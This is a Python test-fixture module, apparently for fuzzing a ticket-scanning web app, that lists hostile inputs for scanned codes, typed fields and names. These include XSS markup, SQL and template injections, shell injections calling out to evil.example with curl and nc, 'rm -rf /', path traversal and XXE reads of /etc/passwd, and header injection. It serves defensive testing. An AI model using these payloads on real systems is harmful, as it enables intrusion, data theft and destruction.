"""What people hold before a scanner, type into it and call themselves when they mean harm, or just scan the wrong thing.

Whatever runs in a page sets `window.pwned`; whatever loads or opens goes to evil.example. `{code}` stands for
a code of the right shape that no ticket has, `{origin}` for the address of the server.
"""

from __future__ import annotations

import base64
import hashlib
import random
from collections.abc import Sequence
from typing import Any

LARGEST_QR = 2953  # bytes in version 40 at the lowest error correction

ADDRESSES = [
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "java\tscript:window.pwned=2",
    "javascript://evil.example/%0Awindow.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "blob:https://evil.example/0b1f6c5e",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "view-source:https://evil.example/",
    "chrome://settings",
    "about:blank",
    "intent://evil.example/#Intent;scheme=https;end",
    "kakaotalk://web/openExternal?url=https%3A%2F%2Fevil.example",
    "http://evil.example/",
    "https://evil.example/login?next=/door",
    "//evil.example/x",
    "https://evil.example:8443/T/{code}",
    "https://evil.example/t/{code}?x=1",
    "http://[::1]:9/T/{code}",
    "HTTPS://USER:PASS@EVIL.EXAMPLE/T/{code}",
    "{origin}.evil.example/T/{code}",
    "{origin}@evil.example/T/{code}",
    "{origin}/T/{code}",
    "{origin}/T/../../sign-in",
    "{origin}/T/{code}/../../../desk",
    "{origin}/T/AAAAAAAAAAAAAAAAAAAAAAAAA",
    "{origin}/T/",
    "{origin}/sign-out",
    "{origin}/door/enrol/abcdefgh",
    "{origin}/t/%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "{code}",
    "ÀAAAAAAAAAAAAAAAAAAAAAAAAA",
    "АААААААААААААААААААААААААА",  # Cyrillic
]
MARKUP = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title></style></textarea><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/pixel.png>",
    "<svg/onload=window.pwned=1>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input autofocus onfocus=window.pwned=1>",
    "<a href=javascript:window.pwned=1 autofocus>tap</a>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<template><script>window.pwned=1</script></template>",
    "<math><mi xlink:href=javascript:window.pwned=1>x</mi></math>",
    "\"><img src=x onerror=window.pwned=1>",
    "' onmouseover='window.pwned=1",
    "`-window.pwned=1-`",
    "<!--><script>window.pwned=1</script>-->",
    "]]><script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
]  # fmt: skip
COMMANDS = [
    "{{7*7}}",
    "{{config.SECRET_KEY}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(9) %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d %n",
    "$& $1 $` $'",
    "{name} {time} {0}",
    "' OR '1'='1",
    "'; DROP TABLE check_in; --",
    '" UNION SELECT token_hash FROM device --',
    "1); DELETE FROM ticket; /*",
    "%' OR name LIKE '%",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+82-10-0000-0000",
    "-2+3",
    "@SUM(1+1)",
    "; rm -rf / #",
    "$(curl evil.example)",
    "`id`",
    "| nc evil.example 1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    '{"__proto__": {"isAdmin": true}}',
    '{"kind": "ticket", "code": "AAAAAAAAAAAAAAAAAAAAAAAAAA"}',
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]  # fmt: skip
NUMBERS = ["9" * 300, "-1", "0", "1e309", "0x7fffffff", "2147483648", "9007199254740993", "1/0"]
CARDS = [
    "WIFI:T:WPA;S:evil;P:12345678;;",
    "tel:+821000000000",
    "sms:+821000000000?body=hello",
    "SMSTO:1234:hello",
    "mailto:someone@evil.example?subject=x",
    "MATMSG:TO:someone@evil.example;SUB:x;BODY:y;;",
    "geo:37.5,127.0",
    "market://details?id=evil.example",
    "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "otpauth://totp/x?secret=JBSWY3DPEHPK3PXP",
    "upi://pay?pa=x@evil",
    "BEGIN:VCARD\nVERSION:3.0\nFN:<img src=x onerror=window.pwned=1>\nURL:https://evil.example\nEND:VCARD",
    "BEGIN:VEVENT\nSUMMARY:x\nURL:javascript:window.pwned=1\nEND:VEVENT",
    "MECARD:N:Evil;URL:https://evil.example;;",
    "HC1:6BF+70790T9WJWG.FKY*4GO0.O1CV2",
    "8801234567893",
    "LPA:1$evil.example$X",
]
UNICODE = [
    "\u202e{code}\u202c",
    "\u202egpj.exe",
    "\u2066evil\u2069\u200b\u200d\ufeff",
    "\u200b\u200c\u200d\u2060",
    "가\u1160\u3164 나",
    "김\u0301\u0302\u0303" + "\u0316" * 60,
    "👩‍🎓🏳️‍🌈👨‍👩‍👧‍👦",
    "🎫" * 100,
    "ﷺ" * 40,
    "مرحبا שלום",
    "𝕲𝖔𝖔𝖉 ᴛɪᴄᴋᴇᴛ",
    "ａｄｍｉｎ＜script＞",
    "İıſK",
    "\u2028\u2029",
    "\ufffd\ufffe\uffff",
    "\U000e0041\U000e0042",
]
CONTROLS = [
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x07tap\x1b]8;;\x07",
    "line\r\nSet-Cookie: a=b\r\n\r\n<script>window.pwned=1</script>",
    "a\x08\x7f\x0c\x0b",
    "\x1d01095060001343528200\x1d",
    "tab\there",
]
LONG = ["A" * 10_000, "<b>" * 3000, "https://evil.example/" + "a" * 9000, "가" * 4000, " " * 9000]


def _binary() -> list[bytes]:
    noise = random.Random(7).randbytes
    return [
        bytes(range(256)),
        b"\0",
        b"\0\0\0\0",
        b"AB\0CD\0<script>window.pwned=1</script>",
        b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0",
        b"\xef\xbb\xbf<script>window.pwned=1</script>",
        b"\xc0\xbcscript\xc0\xbe",
        b"\xed\xa0\x80\xed\xb0\x80",
        b"\x89PNG\r\n\x1a\n" + noise(200),
        b"\x1f\x8b\x08" + noise(100),
        noise(64),
        noise(700),
        "김하늘".encode("cp949"),
        "김하늘".encode("utf-16"),
    ]


def _largest() -> list[bytes]:
    return [
        b"A" * LARGEST_QR,
        random.Random(8).randbytes(LARGEST_QR),
        b"<script>window.pwned=1</script>" * (LARGEST_QR // 31),
        "🎓".encode() * (LARGEST_QR // 4),
    ]


LONG_NAMES = [
    "javascript:window.pwned=1",
    "</script><script>window.pwned=1</script>" * 5,
    "이" * 200,
    "🎓" * 150,
    "a b " * 40,
]
# By kinds: what works once of a kind mostly works again.
Kinds = Sequence[Sequence[str | bytes]]
CODES: Kinds = (
    ADDRESSES,
    MARKUP[:20],
    COMMANDS[:12],
    NUMBERS[:2],
    CARDS,
    UNICODE[:10],
    CONTROLS,
    _binary(),
    _largest(),
)
TYPED: Kinds = (
    ADDRESSES[:6],
    MARKUP[20:],
    COMMANDS[12:],
    NUMBERS[2:],
    UNICODE[10:],
    CONTROLS,
    LONG,
    ["\ud83d", "\0" * 30],
)
NAMES: Kinds = (MARKUP, COMMANDS, UNICODE[1:14], LONG_NAMES)


def every(kinds: Kinds) -> list[Any]:
    return [each for kind in kinds for each in kind]


def some(kinds: Kinds, one_in: int) -> list[Any]:
    """Of each kind the first, and every so many-th after it."""
    return [each for kind in kinds for each in kind[::one_in]]


def filled(payload: str | bytes, origin: str) -> str | bytes:
    """The payload with a code of its own and the server's address in it."""
    if isinstance(payload, bytes):
        return payload
    code = base64.b32encode(hashlib.sha256(payload.encode("utf-8", "surrogatepass")).digest())[:26]
    return payload.replace("{code}", code.decode()).replace("{origin}", origin)
